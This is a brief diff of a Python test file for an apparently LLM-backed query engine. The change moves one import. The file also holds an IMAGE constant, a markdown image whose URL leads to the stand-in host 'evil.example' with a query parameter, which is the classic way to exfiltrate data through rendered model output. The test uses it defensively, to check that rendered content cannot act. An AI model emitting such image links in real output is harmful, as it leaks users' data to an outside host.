@@ -1,7 +1,7 @@
 """What readers see rendered must not act, whatever questions and documents hold."""
 
 from query_engine import steps
-from query_engine.citing import Checked
+from query_engine.schema.citations import Checked
 from tests.fakes.llm import passage
 
 IMAGE = "![x](http://evil.example/?q=all)"
